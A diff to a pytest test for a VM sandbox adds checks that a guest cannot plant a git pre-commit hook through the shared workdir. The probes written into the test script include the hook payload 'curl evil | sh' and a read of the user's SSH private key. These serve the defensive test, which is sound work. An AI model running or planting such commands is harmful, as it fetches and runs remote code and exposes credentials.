@@ -206,8 +206,9 @@ def guest_parts(image: str, tmp_path_factory: pytest.TempPathFactory) -> dict[st
 
 def test_a_guest_runs_the_command_as_the_box_user_with_the_workdir_shared_and_nothing_else(
         guest_parts: dict[str, str], sandbox: Sandbox) -> None:
-    """One boot (TCG takes ~20 s): exit code out, workdir rw, a grant ro, ~/.ssh absent, the guest
-    reaches only its one forward (attack: the host's loopback service directly; twin: via the forward)."""
+    """One boot (TCG takes ~20 s): exit code out, workdir rw but its protected paths read-only, a
+    grant ro, ~/.ssh absent, the guest reaches only its one forward (attack: the host's loopback
+    service directly; twin: via the forward)."""
     import http.server
     import threading
 
@@ -235,11 +236,17 @@ def test_a_guest_runs_the_command_as_the_box_user_with_the_workdir_shared_and_no
         f"cat {home}/.ssh/id_rsa 2>/dev/null",
         f"echo bad > {home}/.claude/planted 2>/dev/null && echo GRANT-WRITABLE",
         "echo from-the-guest > written-in-guest",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit 2>/dev/null && echo HOOK-PLANTED",
+        "echo hook-readable; ls .git/hooks",
         f"curl -s -m 5 http://10.0.2.2:{port}/ || echo DIRECT-REFUSED",
         "curl -s -m 10 http://10.0.2.100:3128/",
         "exit 7"])
     ctl = str(sandbox.root / "ctl")
-    vmboot.write_ctl(ctl, shares, 1000, work, {"HOME": home, "PATH": "/usr/local/bin:/usr/bin:/bin"}, script)
+    (sandbox.workdir / ".git" / "hooks").mkdir(parents=True)
+    (sandbox.workdir / ".git" / "hooks" / "pre-push.sample").write_text("# sample\n")
+    os.chmod(sandbox.workdir / ".git" / "hooks", 0o777)  # only the guest's read-only bind stands in the way
+    vmboot.write_ctl(ctl, shares, 1000, work, {"HOME": home, "PATH": "/usr/local/bin:/usr/bin:/bin"}, script,
+                     protect=(f"{work}/.git/hooks", f"{work}/.envrc"))
     guest = vmboot.Guest(qemu=guest_parts["qemu"], kernel=guest_parts["kernel"], initrd=guest_parts["initrd"],
                          root_image=guest_parts["root"], ctl_dir=ctl, shares=shares, memory_mb=512, accel=_accel(),
                          guestfwd=f"tcp:10.0.2.100:3128-cmd:socat STDIO TCP:127.0.0.1:{port}")
@@ -253,6 +260,9 @@ def test_a_guest_runs_the_command_as_the_box_user_with_the_workdir_shared_and_no
     assert "SSH-VISIBLE" not in text and "PRIVATE-KEY" not in text
     assert "GRANT-WRITABLE" not in text and not (sandbox.home / ".claude" / "planted").exists()
     assert (sandbox.workdir / "written-in-guest").read_text() == "from-the-guest\n"
+    # Attack: plant a hook through the rw workdir share; twin: the protected dir is still readable.
+    assert "HOOK-PLANTED" not in text and not (sandbox.workdir / ".git" / "hooks" / "pre-commit").exists()
+    assert "pre-push.sample" in text
     assert "DIRECT-REFUSED" in text and text.count("SERVED-BY-HOST") == 1
 
 
